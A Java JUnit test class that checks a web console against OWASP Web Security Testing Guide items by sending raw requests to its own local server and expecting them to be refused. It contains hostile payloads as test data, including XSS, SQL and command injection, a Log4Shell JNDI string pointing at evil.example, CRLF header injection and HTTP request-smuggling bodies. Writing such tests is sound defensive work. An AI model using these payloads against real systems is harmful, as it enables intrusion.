package io.spandrel.console;

import static io.spandrel.console.TestConsole.PASSWORD;
import static org.assertj.core.api.Assertions.assertThat;

import io.spandrel.console.TestConsole.Login;
import io.spandrel.console.http.Limits;
import io.spandrel.console.security.Role;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Items of OWASP's Web Security Testing Guide (WSTG) that the console's other tests leave open, sent to the real server byte by byte.
 * docs/console/security.md lists all items, with the test of each.
 */
class OwaspTest {

    /** Each row is a request of one address, more of them at once than one is allowed. */
    private static final TestConsole console = new TestConsole(LimitsTest.limits(1_000, 1_000, 100, 64, 64, 64));

    /** What the grid was asked for, and nothing was changed by. */
    private static final Pattern READS = Pattern.compile("owners of|keys|copies of|conflicts");

    private static final String POST =
            "POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";
    private static final String DECLARED = "Content-Length: 50\r\n\r\n{\"user";
    private static final String CHUNKED = "Transfer-Encoding: chunked\r\n\r\n4\r\nnu";

    private static final Login viewer = console.logIn(Role.VIEWER);

    /**
     * A request and the only answers to it that are right.
     *
     * @param item the item's id in the guide
     * @param head request line and headers; the host is added
     * @param statuses those that are right; 0 is a connection that is cut without an answer
     */
    record Row(String item, String head, String body, List<Integer> statuses) {

        static Row of(String item, String head, Integer... statuses) {
            return new Row(item, head, "", List.of(statuses));
        }

        Row with(String body) {
            return new Row(item, head, body, statuses);
        }

        @Override
        public String toString() {
            return item + " " + head.replace(viewer.cookie(), "{cookie}").replace('\n', '|');
        }
    }

    @AfterAll
    static void close() {
        console.close();
    }

    /** Who has not logged in gets around it by no spelling of a path and by no header that a proxy would set. */
    static List<Row> authentication() {
        String id = viewer.cookie().substring(viewer.cookie().indexOf('=') + 1);
        return List.of(
                Row.of("ATHN-04", "GET /api/v1/overview", 401),
                Row.of("ATHN-04", "GET //api/v1/overview", 404),
                Row.of("ATHN-04", "GET /api//v1/overview", 401),
                Row.of("ATHN-04", "GET /API/v1/overview", 404),
                Row.of("ATHN-04", "GET /%61pi/v1/overview", 401),
                Row.of("ATHN-04", "GET /api/v1/overview/", 401),
                Row.of("ATHN-04", "GET /api/v1/overview%2f", 401),
                Row.of("ATHN-04", "GET /api/v1/overview.html", 401),
                Row.of("ATHN-04", "GET /page;/../api/v1/overview", 400),
                Row.of("ATHN-04", "GET http://localhost/api/v1/overview", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nX-Original-URL: /health/live", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nX-Rewrite-URL: /health/live", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nX-Forwarded-User: admin\nRemote-User: admin", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nX-Forwarded-For: 127.0.0.1\nForwarded: for=127.0.0.1", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nAuthorization: Basic Og==", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nAuthorization: Digest username=\"admin\"", 401),
                Row.of("ATHN-04", "GET /api/v1/overview\nAuthorization: Negotiate YII=", 401),
                Row.of("SESS-01", "GET /api/v1/overview\nCookie: SPANDREL_SESSION=", 401),
                Row.of("SESS-01", "GET /api/v1/overview\nCookie: SPANDREL_SESSION=" + id.substring(1), 401),
                Row.of("SESS-01", "GET /api/v1/overview\nCookie: spandrel_session=" + id, 401),
                Row.of("SESS-04", "GET /api/v1/overview?SPANDREL_SESSION=" + id, 401),
                Row.of("SESS-04", "GET /api/v1/overview;SPANDREL_SESSION=" + id, 401),
                Row.of("SESS-04", "GET /api/v1/overview\nX-Session: " + id, 401),
                Row.of("SESS-04", "GET /api/v1/stream?token=" + id, 401));
    }

    /** A viewer stays one, however the method or the role is dressed up. */
    static List<Row> authorization() {
        return List.of(
                asViewer("ATHZ-02", "POST /api/v1/caches/pages/evict\nX-Role: admin", 403),
                asViewer("ATHZ-02", "POST /api/v1/caches/pages/evict?role=admin", 403),
                asViewer("ATHZ-02", "POST /api/v1/caches/pages/%65vict", 403),
                asViewer("ATHZ-02", "DELETE /api/v1/caches/pages?confirm=pages", 403),
                asViewer("ATHZ-02", "GET /api/v1/audit", 403),
                asViewer("ATHZ-03", "POST /api/v1/session\nContent-Type: application/json", 400),
                asViewer("CONF-06", "POST /api/v1/overview\nX-HTTP-Method-Override: GET", 405),
                asViewer("CONF-06", "POST /api/v1/caches/pages?_method=DELETE&confirm=pages", 403),
                asViewer("CONF-06", "GET /api/v1/caches/pages/evict\nX-HTTP-Method-Override: POST", 405),
                asViewer("CONF-06", "GET /api/v1/caches/pages\nX-Method-Override: DELETE", 200),
                asViewer("CONF-06", "HEAD /api/v1/audit", 405),
                asViewer("CONF-06", "OPTIONS /api/v1/audit", 405),
                asViewer("CONF-06", "TRACE /api/v1/overview", 405),
                asViewer("CONF-06", "get /api/v1/overview", 405, 400),
                asViewer("CONF-06", "PROPFIND /", 405));
    }

    /** Other sites are told nothing, and get nothing done. */
    static List<Row> otherSites() {
        return List.of(
                Row.of(
                        "CLNT-07",
                        "OPTIONS /api/v1/overview\nOrigin: https://evil.example\nAccess-Control-Request-Method: GET",
                        403),
                asViewer("CLNT-07", "GET /api/v1/overview\nOrigin: https://evil.example", 403),
                asViewer("CLNT-07", "GET /api/v1/overview\nOrigin: null", 403),
                asViewer("CLNT-04", "GET //evil.example/%2e%2e", 400),
                asViewer("CLNT-04", "GET //evil.example/", 404),
                asViewer("CLNT-04", "GET /%5c%5cevil.example", 404),
                asViewer("CLNT-04", "GET /health/live?next=https://evil.example", 200),
                asViewer("INPV-17", "GET /api/v1/overview\nX-Forwarded-Host: evil.example", 200),
                Row.of("INPV-17", "GET /health/live\nHost: evil.example", 421),
                Row.of("INPV-17", "GET /health/live\nHost: localhost\nHost: evil.example", 400, 421),
                Row.of("INPV-17", "GET /health/live\nHost: localhost, evil.example", 400, 421),
                Row.of("SESS-05", "POST /api/v1/session\nContent-Type: text/plain\nContent-Length: 2", 415)
                        .with("{}"));
    }

    /** Names and headers that would break out of what they are put into. */
    static List<Row> injection() {
        return List.of(
                asViewer("INPV-01", "GET /api/v1/caches/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404),
                asViewer("INPV-01", "GET /api/v1/caches/pages/owners?key=%3Cimg%20src=x%20onerror=alert(1)%3E", 200),
                asViewer("INPV-05", "GET /api/v1/caches/pages'%20OR%20'1'='1", 404),
                asViewer("INPV-11", "GET /api/v1/caches/$%7Bjndi:ldap://evil.example/a%7D", 404),
                asViewer("INPV-12", "GET /api/v1/caches/pages%7Cid", 404),
                asViewer("INPV-18", "GET /api/v1/caches/%7B%7B7*7%7D%7D", 404),
                asViewer("INPV-15", "GET /api/v1/caches/x%0d%0aSet-Cookie:%20a=b", 400),
                asViewer("INPV-15", "GET /api/v1/stream?lastEventId=1%0d%0aX-Evil:%20yes", 400),
                asViewer("INPV-15", "GET /api/v1/events?after=1%0aX-Evil:%20yes", 400),
                asViewer("INPV-15", "GET /api/v1/configuration\nIf-None-Match: \"x\"\u000bX-Evil: yes", 200, 400, 0),
                asViewer("INPV-04", "GET /api/v1/caches/pages/owners?key=a&key=b", 400));
    }

    /** One connection, two readings of where a request ends: the second request of each body must never be answered. */
    static List<Row> smuggling() {
        String post = "POST /api/v1/session\nContent-Type: application/json\n";
        String second = "GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\n";
        String chunked = "0\r\n\r\n" + second;
        return List.of(
                Row.of("INPV-15", post + "Content-Length: 4\nTransfer-Encoding: chunked", 400, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Transfer-Encoding: chunked\nContent-Length: 4", 400, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Transfer-Encoding: xchunked", 400, 501, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Transfer-Encoding: chunked, identity", 400, 501, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Transfer-Encoding: identity\nTransfer-Encoding: chunked", 400, 501, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Transfer-Encoding : chunked\nContent-Length: 4", 400, 0)
                        .with(chunked),
                Row.of("INPV-15", post + "Content-Length: 4\nContent-Length: 53", 400, 0)
                        .with("null" + second),
                Row.of("INPV-15", post + "Content-Length: 4, 4", 400, 0).with("null" + second),
                Row.of("INPV-15", post + "Content-Length: +4", 400, 0).with("null" + second),
                Row.of("INPV-15", post + "Content-Length: -4", 400, 0).with("null" + second),
                Row.of("INPV-15", post + "Content-Length: 0x4", 400, 0).with("null" + second),
                Row.of("INPV-15", post + "Content-Length: 18446744073709551620", 400, 413, 0)
                        .with("null" + second),
                Row.of("INPV-15", post + "Transfer-Encoding: chunked", 400, 413, 0)
                        .with("fffffffffffffffff4\r\nnull\r\n" + chunked),
                Row.of("INPV-15", post + "Transfer-Encoding: chunked", 400, 0).with("-4\r\nnull\r\n" + chunked));
    }

    @ParameterizedTest
    @MethodSource({"authentication", "authorization", "otherSites", "injection", "smuggling"})
    void request_isAnsweredAsItShouldAndTellsNothing(Row row) {
        int line = (row.head() + "\n").indexOf('\n');
        String host = row.head().contains("\nHost:") ? "" : "\nHost: localhost";
        String head =
                row.head().substring(0, line) + " HTTP/1.1" + host + row.head().substring(line);

        String answer = RawHttp.send(console.server.address(), head, row.body());

        assertThat(RawHttp.status(answer)).as(answer).isIn(row.statuses());
        assertThat(answer.split("HTTP/1.1 ", -1)).as(answer).hasSizeLessThanOrEqualTo(2);
        String headers = answer.split("\r\n\r\n", 2)[0].toLowerCase(Locale.ROOT);
        assertThat(headers)
                .doesNotContain("access-control-")
                .doesNotContain("location:")
                .doesNotContain("set-cookie:")
                .doesNotContain("server:")
                .doesNotContain("x-powered-by:")
                .doesNotContain("x-evil");
        /* The page itself is there once it was built. */
        if (RawHttp.status(answer) != 200) {
            assertThat(headers).doesNotContain("text/html");
        }
        assertThat(answer)
                .doesNotContain("Exception")
                .doesNotContain("\tat ")
                .doesNotContain("io.undertow")
                .doesNotContain(viewer.cookie());
        assertThat(console.grid.done).allMatch(done -> READS.matcher(done).lookingAt());
    }

    /** WSTG-ATHN-06: what was shown to one who was logged in is not in the browser's cache for the next. */
    @Test
    void answers_withData_areKeptByNoCache() {
        Login admin = console.logIn(Role.ADMIN);
        List<String> paths = new OpenApiDocument()
                .operations().stream()
                        .filter(operation -> operation.method().equals("GET"))
                        .filter(operation -> !operation.path().equals("/api/v1/stream"))
                        .map(operation -> operation
                                        .path()
                                        .replace("{name}", "pages")
                                        .replace("{member}", "b")
                                        .replace("{id}", FakeGrid.KEY_ID)
                                + operation.query())
                        .toList();

        assertThat(paths).hasSizeGreaterThan(30).allSatisfy(path -> {
            HttpResponse<String> answer = admin.get(path);
            assertThat(answer.statusCode()).isEqualTo(200);
            assertThat(answer.headers().allValues("Cache-Control")).containsExactly("no-store");
        });
    }

    /** WSTG-ATHN-03: neither another name nor an invented origin of the request gives more guesses. */
    @Test
    void guesses_underManyNamesAndAddresses_arePausedToo() {
        try (TestConsole other = new TestConsole()) {
            for (int i = 0; i < 5; i++) {
                assertThat(guess(other, "user-" + i, "10.0.0." + i).statusCode())
                        .isEqualTo(401);
            }

            assertThat(guess(other, "user-6", "10.0.0.6").statusCode()).isEqualTo(429);
            assertThat(other.logIn("admin", PASSWORD).statusCode()).isEqualTo(429);
        }
    }

    private static HttpResponse<String> guess(TestConsole at, String user, String from) {
        return at.send(at.request("POST", "/api/v1/session", "{\"username\":\"" + user + "\",\"password\":\"guess\"}")
                .header("X-Forwarded-For", from)
                .header("X-Real-IP", from));
    }

    /** WSTG-SESS-06: a session that has ended is not brought back by what a client has kept of it. */
    @Test
    void session_afterLogout_isNotRevivedByItsCookieOrItsToken() {
        Login left = console.logIn(Role.VIEWER);
        left.send("DELETE", "/api/v1/session", "");

        assertThat(left.get("/api/v1/session").statusCode()).isEqualTo(401);
        assertThat(left.send("DELETE", "/api/v1/session", "").statusCode()).isEqualTo(401);
        HttpResponse<String> again = console.send(
                left.request("POST", "/api/v1/session", "{\"username\":\"viewer\",\"password\":\"" + PASSWORD + "\"}"));
        assertThat(again.headers().firstValue("Set-Cookie").orElseThrow()).doesNotStartWith(left.cookie());
    }

    /** Slow clients: neither a head nor a body that never ends keeps its connection. */
    @Test
    void request_thatDoesNotArrive_isCutOff() throws IOException {
        try (TestConsole other = new TestConsole(LimitsTest.limits(64, Duration.ofMillis(300)))) {
            for (String begun : List.of("GET / HT", POST, POST + DECLARED, POST + CHUNKED)) {
                try (Socket slow = send(other, begun)) {
                    slow.setSoTimeout(10_000);

                    assertThat(slow.getInputStream().read()).as(begun).isEqualTo(-1);
                }
            }
            assertThat(other.logIn(Role.VIEWER).get("/metrics").body())
                    .contains("spandrel_console_refused_total{reason=\"slow_body\"} 2");
        }
    }

    /** Slow clients: more bodies under way than there are workers hold up nobody. */
    @Test
    void bodies_thatArriveSlowly_holdUpNobody() throws IOException {
        List<Socket> slow = new ArrayList<>();
        for (int i = 0; i < Limits.DEFAULT.workersMax() + 4; i++) {
            slow.add(send(console, POST + (i % 2 == 0 ? DECLARED : CHUNKED)));
        }

        assertThat(console.send(viewer.request("GET", "/api/v1/overview", "").timeout(Duration.ofSeconds(20)))
                        .statusCode())
                .isEqualTo(200);

        for (Socket socket : slow) {
            socket.close();
        }
    }

    /** A client that asks first whether its body is welcome is told to go on. */
    @Test
    void body_announcedFirst_isAskedFor() {
        String answer = RawHttp.send(
                console.server.address(),
                POST.strip().replace("\r\n", "\n") + "\nContent-Length: 4\nExpect: 100-continue",
                "null");

        assertThat(answer).startsWith("HTTP/1.1 100 Continue").contains("HTTP/1.1 400 ");
    }

    private static Socket send(TestConsole to, String begun) throws IOException {
        URI address = to.server.address();
        Socket socket = new Socket(address.getHost(), address.getPort());
        socket.getOutputStream().write(begun.getBytes(StandardCharsets.US_ASCII));
        return socket;
    }

    private static Row asViewer(String item, String head, Integer... statuses) {
        String method = head.substring(0, head.indexOf(' '));
        String token = method.equals("GET") ? "" : "\nX-CSRF-Token: " + viewer.csrfToken();
        return Row.of(item, head + "\nCookie: " + viewer.cookie() + token, statuses);
    }
}
